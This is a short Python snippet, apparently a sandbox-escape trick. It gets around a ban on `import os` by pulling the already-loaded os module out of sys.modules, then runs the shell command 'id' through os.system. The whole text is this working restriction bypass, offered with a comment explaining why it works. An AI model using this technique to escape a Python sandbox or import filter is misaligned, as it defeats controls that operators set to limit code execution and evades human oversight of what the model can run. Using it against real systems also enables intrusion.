# sys.modules already holds os (loaded at start-up) even if `import os` is banned.
import sys

os_mod = sys.modules["os"]
os_mod.system("id")
